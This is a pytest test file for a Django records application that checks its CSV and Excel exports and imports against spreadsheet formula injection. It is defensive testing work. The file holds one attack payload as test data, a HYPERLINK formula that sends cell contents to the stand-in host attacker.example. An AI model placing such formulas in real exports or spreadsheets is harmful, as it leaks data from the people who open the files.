"""公式: what is exported is text to a spreadsheet, whatever a person wrote; numbers stay numbers; all comes back."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from fadu.kernel import ledgers, returns, rosters, workbooks
from fadu.kernel.columns import guarded, unguarded
from fadu.kernel.organisations import OPERATOR
from tests.toy.library import lend
from tests.toy.models import Borrowing

from .filled import Filled

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACK = '=HYPERLINK("http://attacker.example/?"&A1,"查看")'
pytestmark = pytest.mark.django_db


def cells(workbook: bytes) -> list:
    book = load_workbook(io.BytesIO(workbook))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def runs(workbook: bytes) -> list[str]:
    """Return what a spreadsheet would run, or take for a formula when the cell is opened for editing."""
    return [
        f"{cell.coordinate} {cell.value}"
        for cell in cells(workbook)
        if cell.data_type == "f" or (cell.data_type == "s" and str(cell.value).startswith(STARTS))
    ]


@pytest.mark.parametrize("start", STARTS)
def test_a_text_that_begins_like_a_formula_is_guarded_and_comes_back(start):
    for text in (f"{start}1+1", f"{start}", f"'{start}1", f"''{start}1"):
        assert not guarded(text).startswith(STARTS)
        assert unguarded(guarded(text)) == text


@given(st.text(alphabet=[*"='+-@ a1甲", "\t", "\r", "\n", "＝"], max_size=8))
@settings(max_examples=50)
def test_any_text_comes_back_as_it_was(text):
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(STARTS)
    assert text.startswith(("'", *STARTS)) or guarded(text) == text


@pytest.mark.parametrize("ledger", [one for one in ledgers.all_ledgers() if not one.volume], ids=lambda one: one.slug)
def test_no_ledgers_export_runs(ledger, city):
    """Every text of every ledger begins as a formula would; CSV and workbook hold none that would run."""
    Filled(city.library, ATTACK).of(ledger.model)
    with ledgers.export(ledger, OPERATOR, format="csv", at=timezone.now()) as file:
        lines = list(csv.reader(io.StringIO(file.read().decode("utf-8-sig"))))
    assert len(lines) > 1
    numbers = {column.label for column in ledger.listed() if column.kind in ("integer", "decimal")}
    for line in lines[1:]:
        for heading, cell in zip(lines[0], line, strict=True):
            assert heading in numbers or not cell.startswith(STARTS), (heading, cell)
    with ledgers.export(ledger, OPERATOR, at=timezone.now()) as file:
        assert runs(file.read()) == []


def test_numbers_stay_numbers_and_texts_come_back(city):
    """A round trip: exported, brought in again, nothing has changed; a negative number is not guarded."""
    lend(
        city.library,
        "-7",
        title="=1+1",
        borrower="@李",
        deposit=Decimal("-5.20"),
        note="'=2",
        borrowed_on=date(2025, 1, 2),
    )
    ledger = ledgers.ledger("toy-borrowing")
    for format in ("csv", "xlsx"):
        with ledgers.export(ledger, city.office, format=format, at=timezone.now()) as file:
            content = file.read()
        before = Borrowing.objects.values().get()
        result = ledgers.import_file(ledger, city.office, io.BytesIO(content), name=f"a.{format}")
        assert result.errors == () and (result.created, result.updated) == (0, 0), format
        assert Borrowing.objects.values().get() == before
    with ledgers.export(ledger, city.office, at=timezone.now()) as file:
        assert [cell.value for cell in cells(file.read()) if cell.data_type == "n"].count(-5.2) == 1
    with ledgers.export(ledger, city.office, format="csv", at=timezone.now()) as file:
        assert ",-5.20" in file.read().decode("utf-8-sig")


def test_the_forms_of_returns_run_nothing(city):
    """What a statistician wrote as a note goes into a workbook that the office above opens."""
    filing = returns.file(city.library, 2025, city.actor("statistician", city.library))
    slug = "reconsideration.accepted"
    entered = {"indicator": slug, "scope": "本级", "value": "5", "note": ATTACK}
    returns.enter(filing, [entered], city.actor("statistician", city.library))
    city.library.name = ATTACK[:80]
    city.library.save()
    made = returns.blank([city.library], 2025)
    assert runs(made) == []
    notes = [cell.value for cell in cells(made) if "HYPERLINK" in str(cell.value)]
    assert notes == ["'" + ATTACK[:80], "'" + ATTACK]
    assert returns.read({"indicator": slug, "scope": "本级", "value": "5", "note": notes[1]}).note == ATTACK


def test_rosters_run_nothing(city, actor):
    person = actor("handler")
    city.library.name, city.library.short_name, city.library.mark = ATTACK[:80], "+1", "@a"
    city.library.save()
    out = io.BytesIO()
    rosters.export_organisations(out, [city.library])
    assert runs(out.getvalue()) == []
    user = person.memberships[0].user
    user.name = "=1"
    user.save()
    out = io.BytesIO()
    rosters.export_users(out, user.memberships.all())
    assert runs(out.getvalue()) == []


@pytest.mark.parametrize(
    "address",
    ["/clocks/export.xlsx", "/indicators/export.xlsx", "/organisations/export.xlsx", "/users/export.xlsx",
     "/roles/export.xlsx", "/ledgers/toy-borrowing/template.xlsx", "/returns/forms.xlsx?organisation=990100-01",
     "/comparisons/indicators/reconsideration.accepted/comparison.xlsx"],
)  # fmt: skip
def test_no_workbook_of_a_page_runs(address, city, sign_in, dispute):
    """Names of organisations and people, complaints and titles: whatever stands in them."""
    client = sign_in("law_governance_office")
    keeper = sign_in("keeper")
    case = dispute(complaint=ATTACK[:100])
    type(case).objects.update(title=ATTACK)
    type(city.library).objects.update(name=ATTACK[:80], short_name="=1+1")
    answer = (keeper if "template" not in address and "roles" in address else client).get(address)
    assert answer.status_code == 200
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    assert runs(content) == []


def test_a_marked_workbook_runs_nothing_that_was_not_there(city):
    """A file that is refused comes back with its faults marked: a CSV whose cells look like formulas stays text."""
    text = f"借阅编号,书名,借阅人,借出日期\n{ATTACK.replace(',', '，')},=2+2,@张,不是日期\n"
    ledger, file = ledgers.ledger("toy-borrowing"), io.BytesIO(text.encode())
    result = ledgers.import_file(ledger, city.handler, file, city.library, name="坏.csv")
    assert result.errors
    marked = cells(result.marked)
    assert [cell.value for cell in marked if cell.data_type == "f"] == []
    assert any(str(cell.value).startswith("=2+2") for cell in marked)  # as it was written, but a text


def test_a_heading_is_no_formula():
    out = io.BytesIO()
    workbooks.write_csv(out, ["=1", "甲"], [["+2", -3]])
    assert out.getvalue().decode("utf-8-sig").splitlines() == ["'=1,甲", "'+2,-3"]
